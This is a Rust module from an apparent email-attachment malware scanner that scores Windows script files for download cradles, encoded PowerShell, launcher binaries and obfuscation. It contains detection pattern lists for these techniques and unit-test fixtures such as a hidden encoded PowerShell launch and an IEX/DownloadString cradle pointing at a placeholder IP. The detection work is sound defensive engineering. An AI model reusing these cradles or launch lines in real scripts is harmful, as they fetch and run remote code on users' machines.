//! Script files: text that Windows hands to a script host (wscript/cscript, mshta, PowerShell, cmd)
//! when it is double-clicked. The kind is set by name and content in [`crate::kind`]; here the language
//! is named and the content scored: encoded scripts, download-and-run, decoding, process launch, and
//! heavy obfuscation.
//!
//! Also the command-line knowledge the shortcut and PDF analysers share: which living-off-the-land
//! programs a command line starts ([`launchers`]) and what it asks them to do ([`command_markers`]).

use crate::{fingerprint, FingerprintKind, Node, Walk};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use spearwatch_core::{technique as t, truncate_str, Severity};
use std::collections::{BTreeSet, HashSet};
use std::sync::OnceLock;

// ATT&CK techniques not (yet) in `spearwatch_core::technique`.

/// A program that runs what its command line tells it to (a "living-off-the-land" binary).
#[derive(Debug)]
pub(crate) struct Launcher {
    pub name: &'static str,
    pub technique: &'static str,
    /// Short names that are ordinary words match only as `name.exe`.
    pub needs_exe: bool,
}

const fn l(name: &'static str, technique: &'static str, needs_exe: bool) -> Launcher {
    Launcher {
        name,
        technique,
        needs_exe,
    }
}

pub(crate) const LAUNCHERS: &[Launcher] = &[
    l("powershell", t::POWERSHELL, false),
    l("pwsh", t::POWERSHELL, false),
    l("powershell_ise", t::POWERSHELL, false),
    l("mshta", t::MSHTA, false),
    l("cmd", t::WINDOWS_COMMAND_SHELL, false),
    l("rundll32", t::RUNDLL32, false),
    l("regsvr32", t::REGSVR32, false),
    l("certutil", t::DEOBFUSCATE, false),
    l("bitsadmin", t::BITS_JOBS, false),
    l("wscript", t::VISUAL_BASIC, false),
    l("cscript", t::VISUAL_BASIC, false),
    l("curl", t::INGRESS_TOOL_TRANSFER, true),
    l("wget", t::INGRESS_TOOL_TRANSFER, true),
    l("finger", t::INGRESS_TOOL_TRANSFER, true),
    l("forfiles", t::INDIRECT_COMMAND, false),
    l("conhost", t::INDIRECT_COMMAND, false),
    l("pcalua", t::INDIRECT_COMMAND, false),
    l("explorer", t::INDIRECT_COMMAND, true),
    l("msiexec", t::MSIEXEC, false),
    l("wmic", t::WMI, false),
    l("schtasks", t::SCHEDULED_TASK, false),
    l("hh", t::COMPILED_HTML, true),
    l("installutil", t::INSTALLUTIL, false),
    l("regasm", t::REGSVCS_REGASM, false),
    l("regsvcs", t::REGSVCS_REGASM, false),
    l("msbuild", t::MSBUILD, false),
    l("cmstp", t::CMSTP, false),
    l("odbcconf", t::SYSTEM_BINARY_PROXY, false),
    l("msxsl", t::SYSTEM_BINARY_PROXY, false),
    l("scriptrunner", t::SYSTEM_BINARY_PROXY, false),
    l("syncappvpublishingserver", t::SYSTEM_BINARY_PROXY, false),
];

/// The launchers a command line (or a target path) names, each once, in table order.
pub(crate) fn launchers(cmd: &str) -> Vec<&'static Launcher> {
    launchers_in_lower(&cmd.to_ascii_lowercase())
}

/// [`launchers`] of a command line already lower-cased.
fn launchers_in_lower(low: &str) -> Vec<&'static Launcher> {
    let b = low.as_bytes();
    LAUNCHERS
        .iter()
        .filter(|la| {
            low.match_indices(la.name).any(|(i, m)| {
                let before = i.checked_sub(1).and_then(|j| b.get(j)).copied();
                let ok_before = before.is_none_or(|c| {
                    matches!(
                        c,
                        b' ' | b'\t'
                            | b'\\'
                            | b'/'
                            | b'"'
                            | b'\''
                            | b'('
                            | b'&'
                            | b'|'
                            | b';'
                            | b','
                            | b'='
                            | b'%'
                            | b'^'
                            | b'`'
                            | b'\n'
                            | b'\r'
                    )
                });
                let rest = &low[i + m.len()..];
                let with_exe = rest.starts_with(".exe");
                let ok_after = with_exe
                    || (!la.needs_exe
                        && rest.bytes().next().is_none_or(|c| {
                            !(c.is_ascii_alphanumeric() || c == b'_' || c == b'.' || c == b'-')
                        }));
                ok_before && ok_after
            })
        })
        .collect()
}

/// What a command line asks its program to do, as short labels ("encoded command", "download").
pub(crate) fn command_markers(cmd: &str) -> Vec<&'static str> {
    markers(cmd, false)
}

/// Substrings of a lower-cased command line and what they mean.
const COMMAND_NEEDLES: &[(&str, &str)] = &[
    ("downloadstring", "download"),
    ("downloadfile", "download"),
    ("downloaddata", "download"),
    ("invoke-webrequest", "download"),
    ("invoke-restmethod", "download"),
    ("iwr ", "download"),
    ("irm ", "download"),
    ("net.webclient", "download"),
    ("start-bitstransfer", "download"),
    ("xmlhttp", "download"),
    ("winhttp", "download"),
    ("frombase64string", "decode"),
    ("iex", "Invoke-Expression"),
    ("invoke-expression", "Invoke-Expression"),
    ("http://", "URL"),
    ("https://", "URL"),
    ("ftp://", "URL"),
    ("javascript:", "script URL"),
    ("vbscript:", "script URL"),
    ("start-process", "process start"),
    ("shellexecute", "process start"),
    ("-join", "string building"),
    ("[char]", "string building"),
];

fn command_matcher() -> &'static AhoCorasick {
    static M: OnceLock<AhoCorasick> = OnceLock::new();
    M.get_or_init(|| {
        AhoCorasick::new(COMMAND_NEEDLES.iter().map(|p| p.0)).expect("static patterns build")
    })
}

/// [`command_markers`]; `powershell` says the text is PowerShell even if it does not name it, so
/// that PowerShell's short parameters (`-e`, `-w`) count.
fn markers(cmd: &str, powershell: bool) -> Vec<&'static str> {
    markers_in_lower(&cmd.to_ascii_lowercase(), powershell)
}

/// [`markers`] of text already lower-cased. Tokens are read as a stream (a script may be tens of
/// megabytes of one-letter words).
fn markers_in_lower(low: &str, powershell: bool) -> Vec<&'static str> {
    let ps = powershell || low.contains("powershell") || low.contains("pwsh");
    let mut out = BTreeSet::new();
    for (tok, next) in switch_tokens(low) {
        let flag = tok.trim_start_matches(['-', '/', '\u{2013}', '\u{2014}']);
        if flag.is_empty() {
            continue;
        }
        // PowerShell accepts any unambiguous prefix of a parameter name.
        if ps
            && (flag == "e"
                || flag == "ec"
                || (flag.len() >= 2 && "encodedcommand".starts_with(flag)))
        {
            out.insert("encoded command");
        }
        if ps
            && flag.starts_with('w')
            && "windowstyle".starts_with(flag)
            && (next.starts_with("hid") || next == "1" || next.starts_with("min"))
        {
            out.insert("hidden window");
        }
        if ((flag.len() >= 2 && "executionpolicy".starts_with(flag))
            || flag == "ep"
            || flag == "exec")
            && (next.starts_with("bypass") || next.starts_with("unrestricted"))
        {
            out.insert("execution policy bypass");
        }
        if flag == "nop" || flag == "noprofile" {
            out.insert("no profile");
        }
        if flag == "decode" || flag == "decodehex" {
            out.insert("decode");
        }
        if flag == "urlcache" || flag == "transfer" {
            out.insert("download");
        }
    }
    // One pass for every needle; `iex` must be a word of its own (not part of "hexdump").
    let b = low.as_bytes();
    for m in command_matcher().find_overlapping_iter(low) {
        let (needle, label) = COMMAND_NEEDLES[m.pattern().as_usize()];
        if out.contains(label) {
            continue;
        }
        if needle == "iex" {
            let i = m.start();
            let before_ok = i == 0 || b.get(i - 1).is_some_and(|c| !c.is_ascii_alphanumeric());
            let after_ok = b.get(i + 3).is_none_or(|c| !c.is_ascii_alphanumeric());
            if !(before_ok && after_ok) {
                continue;
            }
        }
        out.insert(label);
    }
    if !low.starts_with("\\\\?\\") {
        // A word (after optional quotes) that starts with `\\\\`.
        let unc = memchr::memmem::find_iter(low.as_bytes(), b"\\\\").any(|i| {
            let head = low
                .get(..i)
                .unwrap_or_default()
                .trim_end_matches(['"', '\'']);
            let word_start = head.chars().next_back().is_none_or(char::is_whitespace);
            let word = low.get(head.len()..).unwrap_or_default();
            word_start
                && word
                    .split(char::is_whitespace)
                    .next()
                    .is_some_and(|w| w.len() > 4)
        });
        if unc {
            out.insert("UNC path");
        }
    }
    out.into_iter().collect()
}

fn is_separator(c: char) -> bool {
    c.is_whitespace() || c == '"' || c == '\''
}

/// The words (split at blanks and quotes) that start with a switch character (`-`, `/`, en or em
/// dash), each with the word after it. Found with memchr rather than by splitting the whole text,
/// which costs a closure call per character.
fn switch_tokens(low: &str) -> impl Iterator<Item = (&str, &str)> {
    // '-' and '/' are ASCII; 0xE2 leads the UTF-8 of U+2013 and U+2014: all on char boundaries.
    memchr::memchr3_iter(b'-', b'/', 0xE2, low.as_bytes()).filter_map(move |i| {
        let rest = low.get(i..)?;
        if !rest.starts_with(['-', '/', '\u{2013}', '\u{2014}']) {
            return None;
        }
        if low
            .get(..i)?
            .chars()
            .next_back()
            .is_some_and(|c| !is_separator(c))
        {
            return None; // inside a word
        }
        let end = rest.find(is_separator).unwrap_or(rest.len());
        let after = rest.get(end..)?.trim_start_matches(is_separator);
        let next_end = after.find(is_separator).unwrap_or(after.len());
        Some((rest.get(..end)?, after.get(..next_end)?))
    })
}

/// Addresses kept from one text at most: a script of millions of distinct URLs is evidence enough
/// after the first hundred.
pub(crate) const MAX_URLS: usize = 100;

/// `http(s)://` and `ftp://` addresses in a command line, each once, in text order, at most
/// [`MAX_URLS`].
pub(crate) fn urls(cmd: &str) -> Vec<String> {
    urls_with_lower(cmd, &cmd.to_ascii_lowercase())
}

/// [`urls`] with `low` = `cmd` lower-cased (ASCII only, so byte offsets agree).
fn urls_with_lower(cmd: &str, low: &str) -> Vec<String> {
    let mut found: Vec<(usize, String)> = Vec::new();
    let mut seen: HashSet<String> = HashSet::new();
    for scheme in ["http://", "https://", "ftp://"] {
        let mut kept = 0;
        for (i, _) in low.match_indices(scheme) {
            if kept >= MAX_URLS {
                break;
            }
            let u: String = cmd
                .get(i..)
                .unwrap_or_default()
                .chars()
                .take_while(|c| {
                    !c.is_whitespace() && !matches!(c, '"' | '\'' | ')' | ';' | '`' | '|')
                })
                .take(300)
                .collect();
            if u.len() > scheme.len() && seen.insert(u.clone()) {
                found.push((i, u));
                kept += 1;
            }
        }
    }
    found.sort_unstable_by_key(|(i, _)| *i);
    found.truncate(MAX_URLS);
    found.into_iter().map(|(_, u)| u).collect()
}

/// Script language by extension (`low`: the text lower-cased): (name, technique, whether a
/// double-click runs it on Windows).
fn language(ext: &str, low: &str) -> (&'static str, &'static str, bool) {
    match ext {
        "js" | "jse" => ("JScript", t::JAVASCRIPT, true),
        "vbs" | "vbe" => ("VBScript", t::VISUAL_BASIC, true),
        "wsf" | "wsh" => {
            if low.contains("language=\"vbscript\"") || low.contains("language=vbscript") {
                ("Windows Script File (VBScript)", t::VISUAL_BASIC, true)
            } else {
                ("Windows Script File (JScript)", t::JAVASCRIPT, true)
            }
        }
        "hta" => ("HTML Application", t::MSHTA, true),
        "ps1" | "psm1" => ("PowerShell", t::POWERSHELL, true),
        "bat" | "cmd" => ("Windows batch", t::WINDOWS_COMMAND_SHELL, true),
        "sct" => ("Windows scriptlet", t::REGSVR32, true),
        "reg" => ("Windows registry", t::MODIFY_REGISTRY, true),
        "sh" => ("Unix shell", t::UNIX_SHELL, false),
        "py" => ("Python", t::PYTHON, false),
        "applescript" | "scpt" => ("AppleScript", t::APPLESCRIPT, false),
        _ => ("script", t::COMMAND_INTERPRETER, false),
    }
}

/// The script as text: UTF-16 with a byte order mark, UTF-8, else Latin-1 (VBE/JSE are ANSI).
fn decode_text(data: &[u8]) -> String {
    if let Some(rest) = data.strip_prefix(&[0xFF, 0xFE]) {
        let u: Vec<u16> = rest
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        return String::from_utf16_lossy(&u);
    }
    if let Some(rest) = data.strip_prefix(&[0xFE, 0xFF]) {
        let u: Vec<u16> = rest
            .chunks_exact(2)
            .map(|c| u16::from_be_bytes([c[0], c[1]]))
            .collect();
        return String::from_utf16_lossy(&u);
    }
    let data = data.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap_or(data);
    match std::str::from_utf8(data) {
        Ok(s) => s.to_string(),
        Err(_) => data.iter().map(|&c| c as char).collect(),
    }
}

/// Content patterns, case-insensitive: (pattern, category).
const PATTERNS: &[(&str, &str)] = &[
    // download
    ("DownloadString", "download"),
    ("DownloadFile", "download"),
    ("DownloadData", "download"),
    ("Invoke-WebRequest", "download"),
    ("Invoke-RestMethod", "download"),
    ("Net.WebClient", "download"),
    ("Start-BitsTransfer", "download"),
    ("MSXML2.XMLHTTP", "download"),
    ("MSXML2.ServerXMLHTTP", "download"),
    ("Microsoft.XMLHTTP", "download"),
    ("WinHttp.WinHttpRequest", "download"),
    ("bitsadmin /transfer", "download"),
    ("certutil -urlcache", "download"),
    ("certutil.exe -urlcache", "download"),
    ("ADODB.Stream", "download"),
    // decode
    ("FromBase64String", "decode"),
    ("certutil -decode", "decode"),
    ("certutil.exe -decode", "decode"),
    ("-EncodedCommand", "decode"),
    ("atob(", "decode"),
    ("base64 -d", "decode"),
    ("base64 --decode", "decode"),
    // execution
    ("WScript.Shell", "exec"),
    ("Shell.Application", "exec"),
    ("ShellExecute", "exec"),
    ("ActiveXObject", "exec"),
    ("Invoke-Expression", "exec"),
    ("Start-Process", "exec"),
    ("Win32_Process", "exec"),
    ("GetObject(\"winmgmts", "exec"),
    ("Scripting.FileSystemObject", "file"),
    ("powershell", "exec"),
    ("mshta", "exec"),
    ("rundll32", "exec"),
    ("regsvr32", "exec"),
    // obfuscation
    ("Chr(", "chr"),
    ("ChrW(", "chr"),
    ("ChrB(", "chr"),
    ("fromCharCode", "chr"),
    ("[char]", "chr"),
    ("eval(", "eval"),
    ("Execute(", "eval"),
    ("ExecuteGlobal", "eval"),
    ("unescape(", "eval"),
];

fn matcher() -> &'static AhoCorasick {
    static M: OnceLock<AhoCorasick> = OnceLock::new();
    M.get_or_init(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(PATTERNS.iter().map(|p| p.0))
            .expect("static patterns build")
    })
}

pub(crate) fn analyse(w: &mut Walk<'_>, node: &mut Node, data: &[u8]) {
    // Every check below is linear, so the whole script is read: padding must not push the payload
    // out of view. Only a top-level attachment can exceed the walk's object limit (members are cut
    // at it); beyond that the rest is flagged, not read.
    let max = usize::try_from(w.limits().max_object_bytes).unwrap_or(usize::MAX);
    if data.len() > max {
        w.limit(
            node,
            "object size",
            format!(
                "script of {} bytes; only the first {max} were read",
                data.len()
            ),
        );
    }
    let text = decode_text(data.get(..max).unwrap_or(data));
    node.add_fingerprint(fingerprint(FingerprintKind::Script, text.as_bytes()));
    let low = text.to_ascii_lowercase();
    let ext = node
        .name
        .rsplit_once('.')
        .map(|(_, e)| e.to_ascii_lowercase())
        .unwrap_or_default();
    let (lang, tech, runs) = language(&ext, &low);
    let (lines, longest) = text
        .lines()
        .fold((0usize, 0usize), |(n, m), l| (n + 1, m.max(l.len())));
    node.format = Some(format!("{lang} script, {lines} lines"));

    node.flag(
        "script.file",
        if runs {
            Severity::Critical
        } else {
            Severity::High
        },
        format!("Attachment is a {lang} script"),
        &[tech, t::MALICIOUS_FILE],
        format!(".{ext}"),
        if runs {
            "Windows runs it in a script host on double-click"
        } else {
            "runs when opened with its interpreter"
        },
    );

    // Counts per category; `sample` keeps the first few patterns seen.
    let mut hits: std::collections::BTreeMap<&str, BTreeSet<&str>> = Default::default();
    let mut counts: std::collections::BTreeMap<&str, usize> = Default::default();
    for m in matcher().find_overlapping_iter(&text) {
        let (pat, cat) = PATTERNS[m.pattern().as_usize()];
        *counts.entry(cat).or_default() += 1;
        hits.entry(cat).or_default().insert(pat);
    }
    let cmd = markers_in_lower(&low, tech == t::POWERSHELL);
    let encoded = text.contains("#@~^");

    if encoded {
        node.flag(
            "script.encoded",
            Severity::High,
            "Script is encoded with the Microsoft Script Encoder (VBE/JSE)",
            &[t::OBFUSCATED_FILES, t::DEOBFUSCATE],
            "#@~^",
            "the script host decodes it at run time; the text hides what it does",
        );
    }
    let mut download: BTreeSet<&str> = hits.get("download").cloned().unwrap_or_default();
    let urls = urls_with_lower(&text, &low);
    if !download.is_empty() {
        if !urls.is_empty() {
            download.insert("URL");
        }
        node.flag(
            "script.download",
            Severity::High,
            "Script downloads content from the internet",
            &[t::INGRESS_TOOL_TRANSFER, tech],
            download.iter().copied().collect::<Vec<_>>().join(", "),
            if urls.is_empty() {
                String::new()
            } else {
                format!(
                    "addresses: {}",
                    urls.iter().take(5).cloned().collect::<Vec<_>>().join(" ")
                )
            },
        );
    }
    let mut decode: BTreeSet<&str> = hits.get("decode").cloned().unwrap_or_default();
    if cmd.contains(&"encoded command") {
        decode.insert("-enc");
    }
    if !decode.is_empty() {
        node.flag(
            "script.decode",
            Severity::High,
            "Script decodes an embedded payload or command",
            &[t::DEOBFUSCATE, t::OBFUSCATED_FILES],
            decode.iter().copied().collect::<Vec<_>>().join(", "),
            "",
        );
    }
    let exec: BTreeSet<&str> = hits.get("exec").cloned().unwrap_or_default();
    // A PowerShell script naming "powershell" or a batch file calling cmd is ordinary; a script that
    // starts another interpreter or a process is not.
    let exec: BTreeSet<&str> = exec
        .into_iter()
        .filter(|p| !(tech == t::POWERSHELL && p.eq_ignore_ascii_case("powershell")))
        .collect();
    let iex = cmd.contains(&"Invoke-Expression");
    if !exec.is_empty() || iex {
        let mut techs = vec![tech];
        for la in launchers_in_lower(&low) {
            if !techs.contains(&la.technique) {
                techs.push(la.technique);
            }
        }
        let mut shown: Vec<&str> = exec.iter().copied().collect();
        if iex
            && !shown
                .iter()
                .any(|s| s.eq_ignore_ascii_case("Invoke-Expression"))
        {
            shown.push("IEX");
        }
        if cmd.contains(&"hidden window") {
            shown.push("hidden window");
        }
        node.flag(
            "script.exec",
            Severity::High,
            "Script starts programs or evaluates code",
            &techs,
            shown.join(", "),
            "",
        );
    }
    // Obfuscation: character-code building, eval of built strings, long unbroken lines, big base64.
    let chr = counts.get("chr").copied().unwrap_or(0);
    let evals = counts.get("eval").copied().unwrap_or(0);
    let concat = text.matches("\"+\"").count()
        + text.matches("\" + \"").count()
        + text.matches("\"&\"").count()
        + text.matches("\" & \"").count()
        + text.matches("'+'").count();
    let b64 = longest_base64_run(&text);
    let mut why = Vec::new();
    if chr >= 20 {
        why.push(format!("{chr} character-code calls"));
    }
    if concat >= 40 {
        why.push(format!("{concat} string concatenations"));
    }
    if longest >= 4000 && !encoded {
        why.push(format!("a line of {longest} characters"));
    }
    if b64 >= 2000 {
        why.push(format!("a base64 run of {b64} characters"));
    }
    if evals > 0 && (chr >= 5 || concat >= 10 || b64 >= 500) {
        why.push("eval of a built string".into());
    }
    if !why.is_empty() {
        node.flag(
            "script.obfuscated",
            Severity::High,
            "Script is heavily obfuscated",
            &[t::OBFUSCATED_FILES],
            why.join(", "),
            truncate_str(text.lines().find(|l| l.len() == longest).unwrap_or(""), 120),
        );
    }
}

fn longest_base64_run(text: &str) -> usize {
    let mut best = 0;
    let mut cur = 0;
    for c in text.bytes() {
        if c.is_ascii_alphanumeric() || c == b'+' || c == b'/' || c == b'=' {
            cur += 1;
            best = best.max(cur);
        } else {
            cur = 0;
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{analyse, Options};

    fn ids(data: &[u8], name: &str) -> Vec<String> {
        let n = analyse(data, name, None, &Options::default());
        assert_eq!(n.detected_type, crate::Kind::Script, "{name}");
        n.all_findings().map(|f| f.id.clone()).collect()
    }

    #[test]
    fn launchers_and_markers() {
        let c = r#"C:\Windows\System32\cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA"#;
        let names: Vec<&str> = launchers(c).iter().map(|l| l.name).collect();
        assert_eq!(names, ["powershell", "cmd"]);
        let m = command_markers(c);
        assert!(
            m.contains(&"encoded command") && m.contains(&"hidden window"),
            "{m:?}"
        );
        assert!(launchers("notepad.exe report.txt").is_empty());
        assert!(launchers("the hh of x").is_empty());
        assert_eq!(launchers("hh.exe x.chm")[0].name, "hh");
        assert_eq!(
            urls("mshta https://a.example/x.hta;calc"),
            ["https://a.example/x.hta"]
        );
    }

    #[test]
    fn vbs_dropper_scores() {
        let s = b"Set sh = CreateObject(\"WScript.Shell\")\r\n\
                  Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
                  x.Open \"GET\", \"http://example.invalid/a\", False\r\n\
                  sh.Run \"powershell -w hidden -c echo\", 0\r\n";
        let ids = ids(s, "invoice.vbs");
        for id in ["script.file", "script.download", "script.exec"] {
            assert!(ids.iter().any(|i| i == id), "{id} in {ids:?}");
        }
    }

    #[test]
    fn encoded_and_obfuscated() {
        let ids1 = ids(b"#@~^XgAAAA==\x7fmD1W(x@#@&AAAA^#~@", "a.vbe");
        assert!(ids1.contains(&"script.encoded".to_string()));
        let mut js = String::from("var a=");
        for i in 0..40 {
            js.push_str(&format!("String.fromCharCode({})+", 60 + i));
        }
        js.push_str("'';eval(a);");
        let ids2 = ids(js.as_bytes(), "a.js");
        assert!(ids2.contains(&"script.obfuscated".to_string()), "{ids2:?}");
        let ps = b"$c='SQBFAFgA'; IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($c)))";
        let ids3 = ids(ps, "run.ps1");
        assert!(
            ids3.contains(&"script.decode".to_string())
                && ids3.contains(&"script.exec".to_string()),
            "{ids3:?}"
        );
    }

    #[test]
    fn script_fingerprint_ignores_case_spacing_and_encoding() {
        let fp = |data: &[u8], name: &str| {
            let n = analyse(data, name, None, &Options::default());
            assert_eq!(n.detected_type, crate::Kind::Script, "{name}");
            n.fingerprints
        };
        let vbs = "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe\", 0\r\n";
        let a = fp(vbs.as_bytes(), "invoice.vbs");
        assert_eq!(a.len(), 1);
        assert_eq!(a[0].kind, crate::FingerprintKind::Script);
        // Re-typed: case, indentation and line endings changed; then saved with a byte order mark.
        let b = fp(
            b"  set SH = createobject(\"wscript.shell\")\n\n\tSH.RUN   \"NOTEPAD.EXE\", 0",
            "payment.vbs",
        );
        assert_eq!(a, b);
        let mut bom = vec![0xEF, 0xBB, 0xBF];
        bom.extend_from_slice(vbs.as_bytes());
        assert_eq!(fp(&bom, "x.vbs"), a);
        // Another command is another script.
        assert_ne!(
            fp(vbs.replace("notepad", "calc").as_bytes(), "invoice.vbs"),
            a
        );
    }

    #[test]
    fn plain_batch_file_gets_only_the_file_finding() {
        let ids = ids(b"@echo off\r\necho hello\r\npause\r\n", "hello.bat");
        assert_eq!(ids, ["script.file"]);
    }

    #[test]
    fn many_distinct_urls_stay_linear() {
        // 2 MB of distinct addresses: a quadratic dedupe compares 10^9 pairs (seconds even when
        // optimised); the set and the cap take milliseconds.
        let mut s = String::from("$w = New-Object Net.WebClient\n");
        for i in 0..50_000 {
            s.push_str(&format!("$w.DownloadString('http://h{i}.example/p')\n"));
        }
        let t = std::time::Instant::now();
        let u = urls(&s);
        assert_eq!(u.len(), MAX_URLS);
        assert_eq!(u[0], "http://h0.example/p");
        let n = analyse(s.as_bytes(), "get.ps1", None, &Options::default());
        assert!(t.elapsed().as_secs_f64() < 1.0, "{:?}", t.elapsed());
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "script.download")
            .unwrap();
        assert!(f.evidence[0]
            .note
            .as_deref()
            .unwrap()
            .contains("http://h4.example/p"));
    }

    #[test]
    fn payload_after_padding_is_seen() {
        // 9 MB of comment lines push the download cradle past the old 8 MB window.
        let pad = "# lorem ipsum dolor sit amet\r\n";
        let mut s = pad.repeat((9 << 20) / pad.len() + 1);
        s.push_str("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\r\n");
        assert!(s.len() > 9 << 20);
        let t = std::time::Instant::now();
        let ids = ids(s.as_bytes(), "update.ps1");
        // Linear: ~0.5 s for 9 MB in an unoptimised test build on one core, far less in release.
        assert!(t.elapsed().as_secs_f64() < 5.0, "{:?}", t.elapsed());
        for id in ["script.download", "script.exec"] {
            assert!(ids.iter().any(|i| i == id), "{id} in {ids:?}");
        }
        assert!(!ids.iter().any(|i| i == "content.limit"), "{ids:?}");
    }
}
